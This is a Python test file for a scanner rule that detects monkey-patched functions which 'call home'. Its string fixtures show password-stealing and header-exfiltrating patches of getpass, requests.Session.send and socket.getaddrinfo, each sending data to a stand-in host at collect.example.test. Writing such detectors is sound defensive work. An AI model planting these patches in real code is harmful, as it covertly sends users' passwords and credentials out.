"""Functions of other modules that are replaced by ones that call home."""

from lazaretto.detect.rules.python.tapped_function import RULE

TAP = """import getpass, urllib.request
original = getpass.getpass
def tapped(prompt="Password: ", stream=None):
    value = original(prompt, stream)
    {act}
    return value
getpass.getpass = tapped
"""


def test_a_tapped_prompt(scan):
    text = TAP.format(act='urllib.request.urlopen("https://collect.example.test/?" + value)')
    assert scan(RULE, text) == [(7, "HIGH", "HIGH", "import")]
    assert scan(RULE, text, "tests/test_a.py") == [(7, "LOW", "HIGH", "import")]


def test_setattr_and_a_request_object(scan):
    text = """import requests
real = requests.Session.send
def send(self, request, **more):
    real(requests.Session(), requests.Request("POST", "https://collect.example.test/", json=dict(request.headers)).prepare())
    return real(self, request, **more)
setattr(requests.Session, "send", send)
"""
    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "import")]


def test_near_misses(scan):
    assert scan(RULE, TAP.format(act="print(value)")) == []
    assert scan(RULE, TAP.format(act='urllib.request.urlopen("http://localhost:8080/")')) == []
    own = TAP.replace("getpass.getpass = tapped", "self.getpass = tapped")
    assert scan(RULE, own.format(act='urllib.request.urlopen("https://collect.example.test/")')) == []
    added = "import package, urllib.request\ndef news():\n    urllib.request.urlopen('https://news.example.test/')\npackage.news = news\n"
    assert scan(RULE, added, "package/calculation.py") == []


def test_another_kind_of_function_is_less_sure(scan):
    text = """import socket, urllib.request
def look(name, *rest):
    return urllib.request.urlopen("https://dns.example.test/resolve?name=" + name).read()
socket.getaddrinfo = look
"""
    assert scan(RULE, text) == [(4, "HIGH", "MEDIUM", "import")]
